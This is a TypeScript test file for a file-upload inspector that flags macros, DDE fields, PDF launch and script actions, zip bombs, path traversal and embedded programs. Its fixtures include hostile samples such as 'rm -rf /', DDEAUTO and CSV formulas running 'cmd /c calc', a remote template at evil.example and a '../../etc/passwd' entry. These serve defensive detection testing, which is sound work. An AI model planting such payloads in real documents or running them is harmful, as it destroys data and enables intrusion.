import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync, gzipSync } from 'node:zlib'
import * as CFB from 'cfb'
import fc from 'fast-check'
import { afterAll, describe, expect, test } from 'vitest'
import { HOME } from '../home.ts'
import { inspect, judge } from './inspect.ts'
import { KINDS } from './kinds.ts'
import { look } from './look.ts'
import { bytesSource } from './source.ts'
import { docxOf, xlsxOf, zipOf } from './zips.testing.ts'

const scratch = mkdtempSync(join(tmpdir(), 'gongkai-inspect-'))
afterAll(() => rmSync(scratch, { recursive: true, force: true }))

const lookAt = async (bytes: Uint8Array | string): Promise<readonly [string, ...string[]]> => {
  const { kind, findings } = await look(bytesSource(Buffer.from(bytes)))
  return [kind, ...findings.map(({ code }) => code)]
}

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const EXE = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(200)])
const gb = (name: string) => readFileSync(join(HOME, 'samples', name))

/** A compound file with these streams. */
function oleOf(streams: Readonly<Record<string, Uint8Array>>): Buffer {
  const file = CFB.utils.cfb_new()
  for (const [path, content] of Object.entries(streams)) CFB.utils.cfb_add(file, `/${path}`, Buffer.from(content))
  return Buffer.from(CFB.write(file, { type: 'buffer' }) as Buffer)
}
const wordStream = (flags = 0, tail: Uint8Array = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(5000)
  head.writeUInt16LE(0xa5ec, 0)
  head.writeUInt16LE(flags, 10)
  return Buffer.concat([head, tail])
}
type BookRecord = readonly [number, Uint8Array]
const records = (...each: readonly BookRecord[]): Buffer =>
  Buffer.concat(
    each.map(([type, data]) => {
      const head = Buffer.alloc(4)
      head.writeUInt16LE(type, 0)
      head.writeUInt16LE(data.length, 2)
      return Buffer.concat([head, data])
    }),
  )
const boundSheet = (type: number) => Buffer.from([0, 0, 0, 0, 0, type, 3, 0, 0x53, 0x68, 0x31])
const bookOf = (...each: readonly BookRecord[]): Buffer =>
  Buffer.concat([records([0x809, Buffer.alloc(16)], ...each, [0x0a, Buffer.alloc(0)]), Buffer.alloc(5000)])

describe('是什么，看字节', () => {
  test.each([
    ['空的', '', ['empty', 'empty']],
    ['图片', PNG, ['png']],
    ['UTF-8 文字', '政府信息公开', ['text']],
    ['GB 18030 文字（生僻字）', Buffer.from('d5fec2ba8135f437fe9f', 'hex'), ['text']],
    ['真的年报文字', gb('0-hegang-2020.txt'), ['text']],
    ['UTF-16 文字', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('公开', 'utf16le')]), ['text']],
    ['网页', '<!DOCTYPE html><html><body>年报</body></html>', ['html']],
    ['存成网页的表格', '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table></table></html>', ['html']],
    ['SVG', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', ['svg']],
    ['Word 文档', docxOf('<w:p/>'), ['docx']],
    ['工作簿', xlsxOf(), ['xlsx']],
    [
      'OFD',
      zipOf([
        { name: 'OFD.xml', bytes: '<ofd:OFD/>' },
        { name: 'Doc_0/Document.xml', bytes: '<a/>' },
      ]),
      ['ofd'],
    ],
    ['开放文档', zipOf([{ name: 'mimetype', method: 0, bytes: 'application/vnd.oasis.opendocument.text' }]), ['odt']],
    ['旧 Word（WPS）', oleOf({ WordDocument: wordStream() }), ['doc']],
    ['旧 Excel', oleOf({ Workbook: bookOf([0x85, boundSheet(0)]) }), ['xls']],
    ['旧演示文稿', oleOf({ 'PowerPoint Document': Buffer.alloc(5000) }), ['ppt']],
    ['认不出的复合文档', oleOf({ Contents: Buffer.alloc(5000) }), ['ole']],
    ['程序', EXE, ['program', 'program-inside']],
    ['ELF 程序', Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), ['program', 'program-inside']],
    ['脚本', '#!/bin/sh\nrm -rf /\n', ['script', 'program-inside']],
    ['快捷方式', '[InternetShortcut]\r\nURL=file://x', ['script', 'program-inside']],
    ['gzip', gzipSync('x'), ['other-archive']],
    ['随机字节', Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 7919 + 13) & 0xff)), ['unknown']],
    ['rar', Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), ['rar', 'archive-unopened']],
    ['7z', Buffer.from('7z\xbc\xaf\x27\x1c\x00\x04', 'latin1'), ['7z', 'archive-unopened']],
  ])('%s', async (_, bytes, wanted) => {
    expect(await lookAt(bytes)).toEqual(wanted)
  })
})

describe('压缩包', () => {
  const huge = Buffer.alloc(40 * 1024 * 1024)
  test.each([
    [
      '普通的',
      zipOf([
        { name: '通知.txt', bytes: '公开' },
        { name: '图/', bytes: '' },
        { name: '图/a.png', bytes: PNG },
      ]),
      ['zip'],
    ],
    ['GBK 的名字照读', zipOf([{ name: '', rawName: Buffer.from('cda8d6aa2e747874', 'hex'), bytes: '公开' }]), ['zip']],
    ['里面有程序，按名字', zipOf([{ name: '工具/setup.exe', bytes: '文字' }]), ['zip', 'program-inside']],
    ['里面有程序，按内容', zipOf([{ name: '年报.pdf', bytes: EXE }]), ['zip', 'program-inside']],
    [
      '里面的里面有程序',
      zipOf([{ name: 'a.zip', bytes: zipOf([{ name: 'b.txt', bytes: EXE }]) }]),
      ['zip', 'program-inside'],
    ],
    [
      '套到第三层',
      zipOf([{ name: 'a.zip', bytes: zipOf([{ name: 'b.zip', bytes: zipOf([{ name: 'c.txt', bytes: 'x' }]) }]) }]),
      ['zip', 'archive-too-deep'],
    ],
    ['展开后巨大', zipOf([{ name: '零.txt', bytes: huge }]), ['zip', 'archive-bomb']],
    ['谎报大小', zipOf([{ name: 'a.txt', bytes: Buffer.alloc(1000), says: { size: 10 } }]), ['zip', 'archive-bomb']],
    [
      '几个成员共用字节',
      zipOf([
        { name: 'a.txt', bytes: 'x'.repeat(99) },
        { name: 'b.txt', bytes: 'y', says: { offset: 0 } },
      ]),
      ['zip', 'archive-bomb'],
    ],
    ['校验不符', zipOf([{ name: 'a.txt', bytes: 'x', says: { crc: 1 } }]), ['zip', 'archive-damaged']],
    ['截断', zipOf([{ name: 'a.txt', bytes: '公开'.repeat(99) }]).subarray(0, 60), ['zip', 'archive-damaged']],
    ['加密', zipOf([{ name: 'a.txt', flags: 0x801, bytes: 'x' }]), ['zip', 'archive-encrypted']],
    ['路径出包外', zipOf([{ name: '../../etc/passwd', bytes: 'x' }]), ['zip', 'archive-path']],
    ['反斜杠路径出包外', zipOf([{ name: 'a\\..\\..\\x.txt', bytes: 'x' }]), ['zip', 'archive-path']],
    ['绝对路径', zipOf([{ name: 'C:\\x.txt', bytes: 'x' }]), ['zip', 'archive-path']],
    ['符号链接', zipOf([{ name: 'link', attributes: (0o120777 << 16) >>> 0, bytes: '/etc' }]), ['zip', 'archive-path']],
    [
      '里面的文件太多',
      zipOf(Array.from({ length: 20_001 }, (_, at) => ({ name: `${at}`, method: 0 }))),
      ['zip', 'archive-too-many'],
    ],
    [
      '里面有带宏的文档',
      zipOf([{ name: '表.docx', bytes: docxOf('', [{ name: 'word/vbaProject.bin', bytes: 'x' }]) }]),
      ['zip', 'macros'],
    ],
    [
      '里面有打不开的包',
      zipOf([{ name: 'a.rar', bytes: Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1') }]),
      ['zip', 'archive-unopened'],
    ],
  ])('%s', async (_, bytes, wanted) => {
    expect(await lookAt(bytes)).toEqual(wanted)
  })
})

describe('办公文档里会自己动的东西', () => {
  const rels = (type: string, target: string) => ({
    name: 'word/_rels/settings.xml.rels',
    bytes: `<Relationships><Relationship Id="a" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  })
  test.each([
    ['VBA 宏', docxOf('', [{ name: 'word/vbaProject.bin', bytes: 'x' }]), ['docx', 'macros']],
    [
      '改了扩展名的 docm',
      zipOf([
        {
          name: '[Content_Types].xml',
          bytes: '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        },
      ]),
      ['macro-document'],
    ],
    ['Excel 4.0 宏表', xlsxOf([{ name: 'xl/macrosheets/sheet1.xml', bytes: '<x/>' }]), ['xlsx', 'macros']],
    [
      '拆成几段的 DDE 域',
      docxOf('<w:instrText>DD</w:instrText><w:r/><w:instrText xml:space="preserve">EAUTO c:\\x</w:instrText>'),
      ['docx', 'dde'],
    ],
    ['写在属性里的 DDE 域', docxOf('<w:fldSimple w:instr=" DDE excel x "/>'), ['docx', 'dde']],
    ['说到 DDE 的正文不算', docxOf('<w:t>DDE 是什么</w:t>'), ['docx']],
    [
      '工作簿里的 DDE',
      xlsxOf([
        {
          name: 'xl/externalLinks/externalLink1.xml',
          bytes: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        },
      ]),
      ['xlsx', 'dde'],
    ],
    [
      '从网上取模板',
      docxOf('', [rels('attachedTemplate', 'https://evil.example/a.dotm')]),
      ['docx', 'external-program'],
    ],
    ['从共享文件夹取对象', docxOf('', [rels('oleObject', '\\\\evil\\a')]), ['docx', 'external-program']],
    ['本机模板的路径不算', docxOf('', [rels('attachedTemplate', 'file:///C:/Users/a/Normal.dotm')]), ['docx']],
    ['普通超链接不算', docxOf('', [rels('hyperlink', 'https://www.gov.cn/')]), ['docx']],
    ['外部图片', docxOf('', [rels('image', 'https://x.example/a.png')]), ['docx', 'external-links']],
    ['旧 Word 的宏', oleOf({ WordDocument: wordStream(), 'Macros/VBA/dir': Buffer.from('x') }), ['doc', 'macros']],
    ['旧 Word 有密码', oleOf({ WordDocument: wordStream(0x0100) }), ['doc', 'encrypted-document']],
    [
      '旧 Word 的 DDE 域',
      oleOf({ WordDocument: wordStream(0, Buffer.from('\x13 DDEAUTO cmd "/c calc" \x14', 'utf16le')) }),
      ['doc', 'dde'],
    ],
    [
      '旧 Word 正文说到 DDE 不算',
      oleOf({ WordDocument: wordStream(0, Buffer.from('DDE 是什么', 'utf16le')) }),
      ['doc'],
    ],
    ['旧 Excel 的宏表', oleOf({ Workbook: bookOf([0x85, boundSheet(0)], [0x85, boundSheet(1)]) }), ['xls', 'macros']],
    ['旧 Excel 有密码', oleOf({ Workbook: bookOf([0x2f, Buffer.alloc(54)]) }), ['xls', 'encrypted-document']],
    [
      '旧 Excel 的 DDE',
      oleOf({ Workbook: bookOf([0x1ae, Buffer.from('\0\0\x05\0\0cmd\x03/c', 'latin1')]) }),
      ['xls', 'dde'],
    ],
    [
      '加密的新文档',
      oleOf({ EncryptedPackage: Buffer.alloc(5000), EncryptionInfo: Buffer.alloc(100) }),
      ['docx', 'encrypted-document'],
    ],
    [
      '嵌着程序',
      oleOf({
        WordDocument: wordStream(),
        'ObjectPool/_1/\u0001Ole10Native': Buffer.concat([
          Buffer.from('\x10\0\0\0\x02\0setup.exe\0C:\\setup.exe\0', 'latin1'),
          EXE,
        ]),
      }),
      ['doc', 'program-inside'],
    ],
    ['RTF 里自动更新的对象', '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}', ['rtf', 'active-object']],
    ['RTF 里嵌着对象', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}', ['rtf', 'embedded-object']],
    [
      '带宏的网页归档',
      'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\neditdata.mso\n',
      ['mht', 'macros'],
    ],
    ['表格文本里的命令', "姓名,备注\n=cmd|'/c calc'!A0,x", ['text', 'formula-text']],
    ['带脚本的 SVG', '<svg onload="alert(1)"/>', ['svg', 'svg-script']],
    ['有脚本的网页', '<html><script>1</script></html>', ['html', 'page-script']],
  ])('%s', async (_, bytes, wanted) => {
    expect(await lookAt(bytes)).toEqual(wanted)
  })
})

describe('PDF', () => {
  const pdf = (body: string | Buffer) =>
    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(body), Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF')])
  const objects = (text: string) => {
    const packed = deflateSync(text)
    return Buffer.concat([
      Buffer.from(`5 0 obj<</Type/ObjStm/N 1/Length ${packed.length}>>stream\n`),
      packed,
      Buffer.from('\nendstream endobj'),
    ])
  }
  test.each([
    ['普通的', pdf('1 0 obj<</Type/Catalog>>endobj'), ['pdf']],
    ['启动程序', pdf('1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj'), ['pdf', 'pdf-launch']],
    ['名字用 #xx 写的', pdf('1 0 obj<</S /#4caunch>>endobj'), ['pdf', 'pdf-launch']],
    ['脚本', pdf('1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'), ['pdf', 'pdf-script']],
    ['藏在压缩对象里的脚本', pdf(objects('7 0 <</S/JavaScript/JS(x)>>')), ['pdf', 'pdf-script']],
    ['内容流里碰巧有同样的字不算', pdf('4 0 obj<</Length 20>>stream\n/S/Launch /JS (x)\nendstream endobj'), ['pdf']],
    ['嵌着文件', pdf('1 0 obj<</Names<</EmbeddedFiles 3 0 R>>>>endobj'), ['pdf', 'pdf-embedded']],
    ['加密', pdf('trailer<</Encrypt 9 0 R>>'), ['pdf', 'pdf-encrypted']],
  ])('%s', async (_, bytes, wanted) => {
    expect(await lookAt(bytes)).toEqual(wanted)
  })
})

test('改坏的、截断的文件，总有一个说法，不会让程序出错', async () => {
  const wholes = [
    docxOf('<w:p/>', [{ name: 'word/media/a.png', bytes: PNG, method: 0 }]),
    zipOf([{ name: 'a.zip', bytes: zipOf([{ name: 'b.txt', bytes: '公开'.repeat(500) }]) }]),
    oleOf({ WordDocument: wordStream(), 'ObjectPool/_1/\u0001Ole10Native': Buffer.alloc(3000, 7) }),
    oleOf({ Workbook: bookOf([0x85, boundSheet(0)], [0x1ae, Buffer.alloc(9)]) }),
  ]
  const change = fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), byte: fc.nat(255) })
  const spoiling = fc.record({
    whole: fc.constantFrom(...wholes),
    changes: fc.array(change, { maxLength: 8 }),
    keep: fc.double({ min: 0.05, max: 1, noNaN: true }),
  })
  await fc.assert(
    fc.asyncProperty(spoiling, async ({ whole, changes, keep }) => {
      const bytes = Buffer.from(whole)
      for (const { at, byte } of changes) bytes[Math.floor(at * (bytes.length - 1))] = byte
      const { kind, findings } = await look(bytesSource(bytes.subarray(0, Math.ceil(bytes.length * keep))))
      expect(KINDS).toHaveProperty(kind)
      for (const { says } of findings) expect(says).toMatch(/[\u4e00-\u9fff].*[。；]$/)
    }),
    { numRuns: 400 },
  )
})

describe('在受限的线程里', () => {
  const file = (name: string, bytes: Uint8Array | string) => {
    const path = join(scratch, name)
    writeFileSync(path, bytes)
    return path
  }

  test('看出是什么、有什么', async () => {
    const inspection = await inspect(file('a', docxOf('', [{ name: 'word/vbaProject.bin', bytes: 'x' }])))
    expect(inspection).toMatchObject({ kind: 'docx', findings: [{ code: 'macros', verdict: 'refused' }] })
    expect(judge('a.docx', inspection).verdict).toBe('refused')
  })

  test('太慢的停下来，说没有检查完，不说没有问题', async () => {
    const inspection = await inspect(file('slow', zipOf([{ name: 'a.txt', bytes: 'x' }])), 1)
    expect(inspection).toMatchObject({ findings: [{ code: 'too-slow' }] })
    expect(judge('a.zip', inspection).verdict).toBe('warned')
  })

  test('名字与内容合起来判断', async () => {
    const png = await inspect(file('png', PNG))
    expect(judge('照片.png', png)).toEqual({ verdict: 'clean', findings: [] })
    expect(judge('照片.jpg', png)).toMatchObject({ verdict: 'warned', findings: [{ code: 'name-other-content' }] })
    expect(judge('照片.pdf', png)).toMatchObject({ verdict: 'refused', findings: [{ code: 'name-not-content' }] })
    const exe = await inspect(file('exe', EXE))
    expect(judge('年报.pdf', exe)).toMatchObject({ verdict: 'refused', findings: [{ code: 'program-inside' }] })
  })
})
